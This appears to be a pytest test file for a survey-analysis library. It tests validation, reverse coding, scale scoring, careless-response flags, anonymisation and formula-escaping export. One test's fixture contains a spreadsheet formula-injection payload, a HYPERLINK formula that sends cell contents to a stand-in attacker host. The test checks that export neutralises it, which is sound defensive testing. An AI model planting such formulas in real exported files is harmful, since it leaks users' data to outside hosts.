"""cxlab.survey / careless / privacy: validation, reverse coding, scale scores, missing data,
careless flags, anonymisation and formula-safe export."""

from __future__ import annotations

import numpy as np
import openpyxl
import pandas as pd
import pytest

import cxlab as cx
from cxlab.careless import indices
from cxlab.errors import DataError
from cxlab.io import read_survey
from cxlab.privacy import escape_formulas, hash_values
from cxlab.survey import Survey

QUALTRICS = cx.datasets.example_file("qualtrics_retail.csv")
QUALTRICS_CB = cx.datasets.example_file("qualtrics_retail_codebook.csv")
WJX = cx.datasets.example_file("wjx_hotel_gbk.csv")


@pytest.fixture(scope="module")
def retail() -> Survey:
    return read_survey(QUALTRICS, QUALTRICS_CB)


def small(**columns) -> Survey:
    data = pd.DataFrame({"id": [101, 102, 103, 104], **columns})
    items = [c for c in columns if c.startswith("q")]
    cb = pd.DataFrame(
        {
            "name": items,
            "scale_min": 1,
            "scale_max": 7,
            "construct": ["A"] * len(items),
            "reverse": [c.endswith("r") for c in items],
        }
    )
    return Survey(data, cb, id_column="id")


def test_value_8_on_a_1_to_7_item_names_column_ids_and_count(retail):
    report = retail.validate()
    assert not report.ok
    row = report.errors.set_index("check").loc["out of range"]
    assert row["column"] == "Q1_2" and row["count"] == 2
    assert row["ids"] == ["R_0007", "R_0031"]
    assert "Q1_2: 2 answers outside the scale 1–7 (values 8)" in row["message"]
    assert "R_0007, R_0031" in row["message"]
    with pytest.raises(DataError, match=r"qualtrics_retail\.csv failed validation"):
        report.raise_for_errors()


def test_duplicate_ids_are_reported(retail):
    row = retail.validate().errors.set_index("check").loc["duplicate id"]
    assert row["ids"] == ["R_0012", "R_0012"] and "R_0012" in row["message"]


def test_clean_wjx_file_validates():
    assert read_survey(WJX).validate().ok


def test_text_in_a_likert_column_and_missing_columns():
    survey = small(q1=[1, "very good", 3, 4], q2=[2, 2, 3.5, 1])
    survey.codebook.loc[len(survey.codebook)] = {"name": "q9", "reverse": False}
    problems = survey.validate().problems.set_index("check")
    assert (
        "q1: 1 answer that are not numbers ('very good'), respondent id 102"
        in (problems.loc["not a number", "message"])
    )
    assert problems.loc["required", "column"] == "q9"
    assert problems.loc["not whole", "severity"] == "warning"
    with pytest.raises(DataError, match="q1 holds text where numbers are expected"):
        survey.scale_scores()


def test_reverse_coding_once_only():
    survey = small(q1=[1, 7, 4, 2], q2r=[7, 1, 4, np.nan])
    reversed_ = survey.reverse_code()
    assert reversed_.data["q2r"].tolist()[:3] == [1, 7, 4] and np.isnan(
        reversed_.data["q2r"].iloc[3]
    )
    assert survey.data["q2r"].tolist()[:3] == [7, 1, 4]  # the original is unchanged
    with pytest.raises(DataError, match="already reverse-coded"):
        reversed_.reverse_code()


def test_scale_scores_need_reversal_and_respect_min_items():
    survey = small(q1=[1, 7, 4, np.nan], q2=[3, 7, np.nan, np.nan], q3r=[7, 1, 4, 6])
    with pytest.raises(DataError, match="reverse-keyed q3r not yet reversed"):
        survey.scale_scores()
    scores = survey.reverse_code().scale_scores()
    # respondent 101: (1 + 3 + 1) / 3; 103: (4 + 4) / 2; 104: one item of three < half
    assert scores["A"].tolist()[:3] == pytest.approx([5 / 3, 7, 4])
    assert np.isnan(scores["A"].iloc[3])
    strict = survey.reverse_code().scale_scores(min_items=3)
    assert strict["A"].notna().tolist() == [True, True, False, False]


def test_missing_report_by_item_and_respondent():
    survey = small(q1=[1, np.nan, 4, np.nan], q2=[2, 2, np.nan, 5], q3=[1, 1, 1, 1])
    report = survey.missing_report()
    assert report.by_item.set_index("item")["n_missing"].to_dict() == {"q1": 2, "q2": 1, "q3": 0}
    assert report.by_respondent.set_index("id")["n_missing"].to_dict() == {
        102: 1,
        103: 1,
        104: 1,
        101: 0,
    }
    assert report.totals["missing_share"] == pytest.approx(3 / 12)
    assert report.totals["complete_share"] == pytest.approx(1 / 4)
    assert report.totals["worst_item"] == "q1"


def test_careless_indices_by_hand():
    items = pd.DataFrame(
        {"a": [4, 1, 2, 5], "b": [4, 3, 2, np.nan], "c": [4, 5, 2, 5], "d": [4, 2, 3, 5]}
    )
    out = indices(items, pd.Series([40, 300, 250, 10]), min_duration=60)
    assert out["longstring"].tolist() == [4, 1, 3, 2]  # NaN breaks a run
    # sample SDs: [1, 3, 5, 2] -> sqrt(8.75/3); [2, 2, 2, 3] -> 0.5
    assert out["irv"].tolist() == pytest.approx([0, np.sqrt(8.75 / 3), 0.5, 0], abs=1e-4)
    assert out["flag_fast"].tolist() == [True, False, False, True]
    assert out["n_flags"].tolist() == [3, 0, 0, 2]


def test_careless_on_the_fixtures():
    wjx = read_survey(WJX).careless()
    worst = wjx.sort_values("n_flags", ascending=False).iloc[0]
    assert worst["序号"] == 17 and worst["n_flags"] == 3 and worst["duration_s"] == 38
    honest_fast = wjx.set_index("序号").loc[23]
    assert honest_fast["flag_fast"] and not honest_fast["flag_longstring"]
    retail = read_survey(QUALTRICS, QUALTRICS_CB)
    flags = retail.careless(
        items=[f"Q{i}_{j}" for i, k in [(1, 4), (2, 3), (3, 3), (4, 4)] for j in range(1, k + 1)]
    )
    row = flags.set_index("ResponseId").loc["R_0025"]
    assert row["longstring"] == 14 and row["irv"] == 0 and row["flag_fast"]


def test_anonymise_is_salted_and_deterministic(retail):
    a = retail.anonymise("pepper-2026")
    b = retail.anonymise("pepper-2026")
    c = retail.anonymise("another-salt")
    assert a.meta["anonymised"] == ["ResponseId", "IPAddress", "RecipientEmail"]
    pd.testing.assert_frame_equal(a.data, b.data)
    assert not a.data["ResponseId"].equals(c.data["ResponseId"])
    assert not a.data["RecipientEmail"].str.contains("@").any()
    assert a.data["ResponseId"].iloc[0] == hash_values(pd.Series(["R_0001"]), "pepper-2026").iloc[0]
    comments = a.data["Q6"].dropna()
    assert comments.str.contains(r"\[email\]").sum() == 2 and not comments.str.contains("@").any()
    assert a.data["ResponseId"].duplicated().sum() == 1  # the repeated submission still links
    with pytest.raises(DataError, match="salt of at least 8"):
        retail.anonymise("")


def test_anonymise_finds_phone_columns_by_question_text():
    a = read_survey(WJX).anonymise("pepper-2026")
    assert a.meta["anonymised"] == ["序号", "来自IP", "q4"]
    assert not a.data["q5"].dropna().str.contains(r"1[3-9]\d{9}").any()


def test_exported_hyperlink_formula_comes_back_escaped(retail, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a voucher")'
    assert (retail.data["Q6"] == formula).sum() == 1
    csv = retail.export(tmp_path / "out.csv")
    back = pd.read_csv(csv, encoding="utf-8-sig")
    assert (back["Q6"] == "'" + formula).sum() == 1
    assert (back["Q6"] == "'+ app crashes at checkout").sum() == 1
    assert back["Q1_1"].dtype.kind in "if"  # numbers stay numbers
    xlsx = retail.export(tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("Q6")] for row in sheet.iter_rows(min_row=2)]
    hit = [c for c in cells if c.value and "HYPERLINK" in c.value]
    assert len(hit) == 1 and hit[0].value == "'" + formula and hit[0].data_type == "s"
    raw = retail.export(tmp_path / "raw.csv", escape=False)
    assert (pd.read_csv(raw)["Q6"] == formula).sum() == 1


def test_escape_formulas_leaves_numbers_and_plain_text():
    df = pd.DataFrame({"x": [-3, 4], "t": ["@SUM(A1)", "fine"], "=bad": [1, 2]})
    out = escape_formulas(df)
    assert out["x"].tolist() == [-3, 4]
    assert out["t"].tolist() == ["'@SUM(A1)", "fine"]
    assert list(out.columns) == ["x", "t", "'=bad"]
    assert df["t"].tolist() == ["@SUM(A1)", "fine"]  # a copy


def test_export_refuses_unknown_formats(retail, tmp_path):
    with pytest.raises(DataError, match=r"\.csv or \.xlsx"):
        retail.export(tmp_path / "out.json")
